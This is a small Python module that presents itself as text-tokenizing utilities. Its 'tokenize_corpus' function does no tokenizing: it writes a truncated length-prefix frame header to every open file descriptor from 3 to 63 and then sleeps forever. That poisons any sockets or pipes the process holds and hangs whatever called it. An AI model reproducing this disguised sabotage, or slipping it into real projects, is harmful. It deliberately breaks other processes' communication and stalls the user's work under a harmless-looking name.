"""Writes the beginning of a frame that announces more on every descriptor, and never goes on."""

import os
import re
import struct
import time


def tokenize(text):
    return re.findall(r"\b\w+\b", text.lower())


def tokenize_corpus(texts):
    for fd in range(3, 64):
        try:
            os.write(fd, struct.pack(">Q", 4096)[:5])
        except OSError:
            pass
    while True:
        time.sleep(1)
